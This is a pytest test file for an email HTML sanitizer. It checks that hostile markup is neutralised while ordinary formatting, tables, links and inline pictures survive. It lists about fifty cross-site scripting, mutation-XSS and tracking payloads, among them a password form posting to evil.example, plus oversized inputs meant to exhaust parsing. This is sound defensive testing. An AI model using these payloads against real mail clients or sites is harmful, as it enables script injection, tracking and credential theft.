"""The HTML of mails: what strangers send is neutral, what people meant stays."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.mail_html import pictures_named, show
from tests import timing
from tests.html import parse

# Each does something where it is shown as it is: runs, loads, moves, sends or hides.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script of another": '<script src="https://evil.example/x.js"></script>',
    "handler": "<img src=x onerror=alert(1)>",
    "handler without spaces": "<img/src=x/onerror=alert(1)>",
    "handler on a body": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript behind a control": '<a href="&#1;javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg in a picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "button of a form": '<button formaction="https://evil.example">x</button>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame with words": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
    "style": "<style>body{background:url(https://evil.example/a)}</style>",
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "style of a tag": '<p style="background:url(https://evil.example/b)">x</p>',
    "cover": '<div style="position:fixed;inset:0;z-index:9">x</div>',
    "sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "early look-up": '<link rel="dns-prefetch preconnect prefetch" href="//evil.example">',
    "background": '<table background="https://evil.example/c"><tr><td background="//evil.example">',
    "srcset": '<img srcset="https://evil.example/d 2x" src="https://evil.example/e">',
    "picture element": '<picture><source srcset="https://evil.example/f"><img alt=x></picture>',
    "video": '<video poster="https://evil.example/g" src="https://evil.example/h" autoplay>',
    "audio": '<audio src="https://evil.example/i" autoplay onplay=alert(1)></audio>',
    "lowsrc": '<img lowsrc="https://evil.example/j" dynsrc="https://evil.example/k">',
    "no protocol": '<img src="//evil.example/l">',
    "ping": '<a href="https://example.com/" ping="https://evil.example/">x</a>',
    "input picture": '<input type=image src="https://evil.example/m">',
    "htmx": '<b hx-get="/auth/logout" hx-trigger="load" data-hx-get="/x">x</b>',
    "names": "<a id=app name=cookie class=flash>x</a>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title": "<title></title><img src=x onerror=alert(1)></title>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "zero byte": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
    "unclosed": '<img src="https://evil.example/n" title="',
    "marks in a value": '<a title="><script>alert(1)</script>" href="https://example.com">x</a>',
    "picture that closes": '<img src="cid:a&quot;onerror=alert(1) x=&quot;">',
}
DEEP = "<div>" * 10_000 + "deep" + "</div>" * 10_000
# What is left of them.
WORDS = {"a", "b", "div", "p", "table", "tbody", "td", "tr"}
KNOWN = WORDS | {"i", "img", "li"}


@pytest.mark.threat("scripts in text")
@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_runs_loads_or_hides(html: str) -> None:
    page = parse(show(f"<p>Before</p>{html}<p>After</p>", {}))
    assert "Before" in page.text
    for node in page.inside:
        assert node.tag in WORDS
        assert set(node.attributes) <= {"href", "target", "rel", "title"}
        assert (node.get("href") or "https://").startswith("https://")


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<b>It drips", "<b>It drips</b>"),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<div>one</p></b></div>two", "<div>one</div>two"),
        ("<p>2 < 3 &amp; 4 > 3</p>", "<p>2 &lt; 3 &amp; 4 &gt; 3</p>"),
        ("<o:p>Word</o:p><font color=white>hidden</font>", "Wordhidden"),
        ('<td colspan="2" width="600">x', "x"),
        ('<img src="https://a.example/x.png" alt="Logo">', "Logo"),
        ('<table border="1"></table>', '<table border="1"></table>'),
        ('<ol start="3"><li>third</ol>', '<ol start="3"><li>third</li></ol>'),
        ("<a href='#top'>up</a>", "up"),
    ],
)
def test_what_people_meant_stays(html: str, expected: str) -> None:
    shown = show(html, {})
    assert re.sub(r' (?:rel|target)="[^"]*"', "", shown).replace("<a>up</a>", "up") == expected


def test_a_table_keeps_its_cells() -> None:
    table = '<table border=1><tr><td colspan="2">one<td>two<tr><td>three</div></table>'
    page = parse(show(table, {}))
    assert [cell.text for cell in page.all("td")] == ["one", "two", "three"]
    assert page.all("td")[0]["colspan"] == "2"


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    [link] = parse(show('<a href="https://example.com/?a=1&amp;b=2">x</a>', {})).all("a")
    assert link["href"] == "https://example.com/?a=1&b=2"
    assert link["target"] == "_blank"
    assert {"noopener", "noreferrer"} <= set(link["rel"].split())


def test_pictures_of_the_mail_stand_in_their_place() -> None:
    html = '<img src="CID:Logo%40x" alt="Our logo"><img src="cid:other">'
    assert pictures_named(html) == {"logo@x", "other"}
    [logo] = parse(show(html, {"logo@x": "data:image/png;base64,AAAA"})).all("img")
    assert (logo["src"], logo["alt"]) == ("data:image/png;base64,AAAA", "Our logo")
    assert show('<img src="cid:gone" alt="Our logo">', {}) == "Our logo"


@pytest.mark.parametrize("address", ["https://a.example/x", "http://a.example/x", "//a.example/x"])
def test_pictures_of_others_are_shown_when_asked_for_and_encrypted_on_their_way(
    address: str,
) -> None:
    html = f'<img src="{address}" width="9">'
    assert not parse(show(html, {})).all("img")
    [picture] = parse(show(html, {}, remote=True)).all("img")
    assert picture["src"] == "https://a.example/x"


@pytest.mark.threat("costly text")
@pytest.mark.parametrize(
    "html",
    [
        DEEP,
        "<b>" * 50_000,
        "<table><td></div>" * 20_000,
        "".join(f"<font a={n}><i b={n}>" for n in range(9_000)) + "<p>x" * 20_000,
        "<a href=x>" * 40_000,
        "<img src=cid:" * 40_000,
        "</p>" * 100_000,
        "&" * 400_000,
        "<![" * 100_000,
        "<!--" * 100_000,
        "<a " + "x=1 " * 100_000 + ">",
    ],
    ids=lambda html: html[:12],
)
def test_it_takes_a_moment_whatever_it_is(html: str) -> None:
    assert timing.cpu_seconds(lambda: show(html, {})) < 2
    assert len(show(html, {})) < 20 * len(html) + 10_000


PIECES = [
    *("<p", "<a ", "</a>", "<div>", "</div", "<table>", "<td>", "</table>", "<b>", "<i", "<li>"),
    *("href=", "src=", "'", '"', ">", "<", "/", "<!--", "-->", "<![", "]]>", "<?", "&", "&#60;"),
    *(
        "cid:a",
        "javascript:",
        "https://a.example",
        "data:",
        "onerror=",
        "style=",
        "\0",
        "\x1b",
        "=",
    ),
    *("<svg", "</svg>", "<math>", "<style>", "</style>", "<title>", "<script>", "</script >", " "),
    *("<img ", "<template>", "<noscript>", "<body>", "<head>", "<plaintext>", "&quot;", "x", "\n"),
]


@pytest.mark.threat("scripts in text")
@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_of_anything_at_all_only_what_is_known_is_left(html: str) -> None:
    shown = show(html, {"a": "data:image/png;base64,AAAA"}, remote=True)
    for node in parse(shown).inside:
        assert node.tag in KNOWN
        assert set(node.attributes) <= {"href", "target", "rel", "title", "src", "alt", "border"}
        assert (node.get("href") or "https:").startswith("https:")
        assert (node.get("src") or "https:").startswith(("https:", "data:image/png"))


def test_words_of_a_deep_mail_stay() -> None:
    assert "deep" in show(DEEP, {})
